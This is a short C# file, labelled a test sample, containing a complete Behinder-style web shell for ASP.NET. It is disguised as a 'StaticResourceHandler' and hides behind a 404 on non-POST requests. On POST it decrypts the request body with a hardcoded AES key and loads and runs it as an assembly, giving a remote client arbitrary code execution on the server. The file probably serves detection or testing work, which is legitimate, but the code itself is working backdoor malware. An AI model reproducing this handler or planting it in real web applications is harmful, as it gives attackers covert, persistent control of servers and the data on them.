// Test sample (inert): a Behinder-style IHttpHandler in App_Code, mapped to a path in web.config.
// The POST body is AES-decrypted with a fixed key and loaded as an assembly whose type "U" gets the
// request context (Equals) and does whatever the client's payload says.
using System;
using System.Reflection;
using System.Security.Cryptography;
using System.Text;
using System.Web;
using System.Web.SessionState;

namespace Site.Handlers
{
    public class StaticResourceHandler : IHttpHandler, IRequiresSessionState
    {
        public bool IsReusable
        {
            get { return false; }
        }

        public void ProcessRequest(HttpContext context)
        {
            if (context.Request.HttpMethod != "POST")
            {
                context.Response.StatusCode = 404;
                return;
            }
            string k = "e45e329feb5d925b";
            context.Session.Add("k", k);
            byte[] key = Encoding.Default.GetBytes(k);
            byte[] body = context.Request.BinaryRead(context.Request.ContentLength);
            byte[] raw = new RijndaelManaged().CreateDecryptor(key, key).TransformFinalBlock(body, 0, body.Length);
            Assembly.Load(raw).CreateInstance("U").Equals(context);
        }
    }
}
